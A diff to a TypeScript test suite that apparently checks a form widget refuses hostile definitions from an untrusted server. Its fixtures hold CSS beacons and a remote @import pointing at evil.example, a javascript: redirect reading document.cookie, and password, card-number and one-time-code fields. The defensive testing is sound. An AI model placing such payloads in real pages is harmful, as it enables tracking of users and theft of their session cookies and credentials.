@@ -50,8 +50,8 @@ const HOSTILE: ReadonlyArray<[string, PublicFormDefinition, string]> = [
   ['a password input', field({ type: 'password', autocomplete: 'current-password' }), 'fields'],
   ['a card number input', field({ type: 'text', autocomplete: 'cc-number', inputmode: 'numeric' }), 'fields'],
   ['a one-time-code input', field({ autocomplete: 'one-time-code' }), 'fields'],
-  ['a CSS beacon in a theme colour', { ...DEFINITION, theme: { accentColor: '#fff;background:url(https://evil.example/beacon)' } }, 'theme'],
-  ['a CSS beacon in a font list', { ...DEFINITION, theme: { fontFamily: 'x;}:host{background:url(https://evil.example/b)' } }, 'theme'],
+  ['a CSS beacon in the stylesheet', { ...DEFINITION, css: `${DEFINITION.css}:host{background:url(https://evil.example/beacon)}` }, 'css'],
+  ['an imported stylesheet', { ...DEFINITION, css: `@import "https://evil.example/x.css";${DEFINITION.css}` }, 'css'],
   ['a javascript: redirect after success', { ...DEFINITION, success: { message: 'Thanks', redirectUrl: 'javascript:alert(document.cookie)' } }, 'success.redirectUrl'],
 ];
 
@@ -66,8 +66,8 @@ describe('a hostile definition server', () => {
     expect(view.root.querySelector('form,input,select,textarea,button')).toBeNull();
     expect(view.root.querySelector('slot')).not.toBeNull();
     expect(view.host.textContent).toBe('Call us on 555-0100');
-    // No theme stylesheet was adopted, so no url() can load.
-    expect(view.root.adoptedStyleSheets.map((sheet) => [...sheet.cssRules].map((rule) => rule.cssText).join('')).join('')).not.toContain('url(');
+    // No stylesheet was adopted, so nothing can load.
+    expect(view.root.adoptedStyleSheets).toHaveLength(0);
     await new Promise((resolve) => setTimeout(resolve, 20));
     expect(network.seen.map((request) => request.method)).toEqual(['GET']);
   });
